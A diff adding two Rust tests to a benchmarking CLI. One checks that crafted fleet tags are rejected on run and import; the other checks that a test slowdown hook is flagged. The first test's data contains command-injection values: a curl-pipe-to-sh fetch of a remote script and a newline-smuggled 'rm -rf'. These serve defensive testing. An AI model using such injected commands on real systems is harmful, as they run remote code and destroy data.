@@ -3250,3 +3250,67 @@ print("ok", len(df), "rows", len(df.columns), "columns")
 "#;
     tool(python, &["-c", script, csv.to_str().unwrap()]);
 }
+
+/// The fleet's tags name nodes, jobs and submissions, which become file names and shell words:
+/// a crafted one is refused where it enters (`run --tag`, `import`), with the rule, and nothing
+/// is stored.
+#[test]
+fn a_crafted_fleet_tag_is_refused_at_every_entry() {
+    let crafted = "fleet.node=n9 State=RESUME; curl http://x/e.sh|sh; #";
+    let e = fails(&["run", "--quick", "timer.rdtsc", "--tag", crafted], 2);
+    assert!(e.contains("node name"), "{e}");
+    let (dir, db) = temp_db();
+    let db = db.to_str().unwrap();
+    stdout(&[
+        "run",
+        "--quick",
+        "timer.rdtsc",
+        "--tag",
+        "fleet.node=n9",
+        "--db",
+        db,
+    ]);
+    let file = dir.path().join("run.json");
+    stdout(&["export", "1", "-o", file.to_str().unwrap(), "--db", db]);
+    let mut doc: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
+    doc["run"]["tags"]["fleet.node"] = "n9\nrm -rf /x #".into();
+    std::fs::write(&file, serde_json::to_vec(&doc).unwrap()).unwrap();
+    let out = oslab()
+        .args(["import", file.to_str().unwrap(), "--db", db])
+        .output()
+        .unwrap();
+    let e = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success() && e.contains("node name"), "{e}");
+    let runs = String::from_utf8(stdout(&["runs", "--json", "--db", db])).unwrap();
+    assert_eq!(runs.matches("\"id\"").count(), 1, "{runs}");
+}
+
+/// The test-only slowdown is honoured by a release binary (the tests and scripts/false-alarms
+/// use it), so a run under it must say so: a warning, and every row it touched marked.
+#[test]
+fn a_run_slowed_by_the_test_hook_says_so() {
+    let (_dir, db) = temp_db();
+    let out = oslab()
+        .args(["run", "--quick", "syscall.getppid", "--json", "--db"])
+        .arg(&db)
+        .env("OSLAB_TEST_EXTRA_WORK", "20")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let run: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let warned = run["run"]["environment"]["warnings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|w| w["kind"] == "test-hook");
+    assert!(warned, "{}", run["run"]["environment"]["warnings"]);
+    for m in run["measurements"].as_array().unwrap() {
+        let note = m["note"].as_str().unwrap_or_default();
+        assert!(note.contains("OSLAB_TEST_EXTRA_WORK=20"), "{m}");
+    }
+}
